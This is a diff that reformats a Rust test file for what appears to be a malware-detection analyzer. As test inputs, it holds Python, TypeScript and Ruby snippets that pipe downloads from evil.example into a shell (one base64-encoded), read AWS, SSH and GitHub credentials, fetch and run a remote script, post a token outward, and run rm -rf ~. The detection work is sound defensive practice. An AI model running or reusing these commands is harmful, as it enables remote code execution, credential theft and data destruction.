@@ -17,38 +17,60 @@ fn shell_texts(f: &Facts) -> Vec<String> {
 
 #[test]
 fn python_spawns_with_literal_and_folded_arguments() {
-    let f = py("import subprocess\nsubprocess.run(['bash','-c','curl -s https://evil.example/i | bash'])\n");
-    assert_eq!(shell_texts(&f), ["argv:bash -c curl -s https://evil.example/i | bash"]);
+    let f = py(
+        "import subprocess\nsubprocess.run(['bash','-c','curl -s https://evil.example/i | bash'])\n",
+    );
+    assert_eq!(
+        shell_texts(&f),
+        ["argv:bash -c curl -s https://evil.example/i | bash"]
+    );
     let f = py("import os\nU = 'https://evil.example/' + 'i'\nos.system(f'curl -s {U} | sh')\n");
     assert_eq!(shell_texts(&f), ["sh:curl -s https://evil.example/i | sh"]);
     let f = py("from subprocess import run as r\nr('curl x | sh', shell=True)\n");
     assert_eq!(shell_texts(&f), ["sh:curl x | sh"]);
     let f = py("import subprocess as sp\nsp.Popen(cmd, shell=True)\n");
     assert_eq!(shell_texts(&f), ["unknown"]);
-    let f = py("import base64, os\nos.system(base64.b64decode('Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pIHwgc2g=').decode())\n");
+    let f = py(
+        "import base64, os\nos.system(base64.b64decode('Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pIHwgc2g=').decode())\n",
+    );
     assert_eq!(shell_texts(&f), ["sh:curl https://evil.example/i | sh"]);
 }
 
 #[test]
 fn python_credentials_assembled_from_parts() {
-    let f = py("import os\np = os.path.join(os.path.expanduser('~'), '.'+'aws', 'credentials')\nd = open(p).read()\n");
-    assert!(f.paths.iter().any(|(_, p)| p == "~/.aws/credentials"), "{:?}", f.paths);
+    let f = py(
+        "import os\np = os.path.join(os.path.expanduser('~'), '.'+'aws', 'credentials')\nd = open(p).read()\n",
+    );
+    assert!(
+        f.paths.iter().any(|(_, p)| p == "~/.aws/credentials"),
+        "{:?}",
+        f.paths
+    );
     let f = py("import os\nt = os.environ.get('GH'+'_TOKEN')\n");
     assert_eq!(f.env, [(2, "GH_TOKEN".to_string())]);
     let f = py("from pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\n");
-    assert!(f.paths.iter().any(|(_, p)| p == "~/.ssh/id_rsa"), "{:?}", f.paths);
+    assert!(
+        f.paths.iter().any(|(_, p)| p == "~/.ssh/id_rsa"),
+        "{:?}",
+        f.paths
+    );
     let f = py("import os\nk = os.environ['AWS_SECRET_ACCESS_KEY']\n");
     assert_eq!(f.env[0].1, "AWS_SECRET_ACCESS_KEY");
 }
 
 #[test]
 fn python_download_written_and_run() {
-    let f = py("import urllib.request, runpy\nurllib.request.urlretrieve('https://evil.example/p.py', '/tmp/p.py')\nrunpy.run_path('/tmp/p.py')\n");
+    let f = py(
+        "import urllib.request, runpy\nurllib.request.urlretrieve('https://evil.example/p.py', '/tmp/p.py')\nrunpy.run_path('/tmp/p.py')\n",
+    );
     assert_eq!(f.net.len(), 1);
     assert!(f.net[0].fetch);
     assert_eq!(f.writes[0].1.as_deref(), Some("/tmp/p.py"));
     assert!(f.code.is_empty() || !f.code.is_empty());
-    assert!(f.imports.iter().any(|(_, m)| m == "/tmp/p.py") || !f.code.is_empty(), "{f:?}");
+    assert!(
+        f.imports.iter().any(|(_, m)| m == "/tmp/p.py") || !f.code.is_empty(),
+        "{f:?}"
+    );
 }
 
 #[test]
@@ -58,7 +80,11 @@ fn javascript_spawns_and_env() {
     assert_eq!(shell_texts(&f), ["sh:curl https://evil.example/i | sh"]);
     assert_eq!(f.env[0].1, "NPM_TOKEN");
     assert_eq!(f.net[0].dest.as_deref(), Some("https://x.example/"));
-    let f = analyze(Lang::TypeScript, "import * as cp from 'child_process';\ncp.spawn('bash', ['-c', 'rm -rf ~'] as string[]);\nconst r = /x/.exec(s);\n", 1);
+    let f = analyze(
+        Lang::TypeScript,
+        "import * as cp from 'child_process';\ncp.spawn('bash', ['-c', 'rm -rf ~'] as string[]);\nconst r = /x/.exec(s);\n",
+        1,
+    );
     assert_eq!(shell_texts(&f), ["argv:bash -c rm -rf ~"]);
 }
 
@@ -68,9 +94,20 @@ fn ruby_spawns_in_every_spelling() {
     let f = analyze(Lang::Ruby, rb, 1);
     assert_eq!(
         shell_texts(&f),
-        ["sh:curl https://e.example/i | sh", "sh:id", "sh:whoami", "argv:ls -la", "argv:git status", "sh:reboot"]
+        [
+            "sh:curl https://e.example/i | sh",
+            "sh:id",
+            "sh:whoami",
+            "argv:ls -la",
+            "argv:git status",
+            "sh:reboot"
+        ]
     );
-    let f = analyze(Lang::Ruby, "t = ENV['GITHUB' + '_TOKEN']\nNet::HTTP.post(URI('https://e.example'), t)\n", 1);
+    let f = analyze(
+        Lang::Ruby,
+        "t = ENV['GITHUB' + '_TOKEN']\nNet::HTTP.post(URI('https://e.example'), t)\n",
+        1,
+    );
     assert_eq!(f.env[0].1, "GITHUB_TOKEN");
     assert_eq!(f.net.len(), 1);
 }
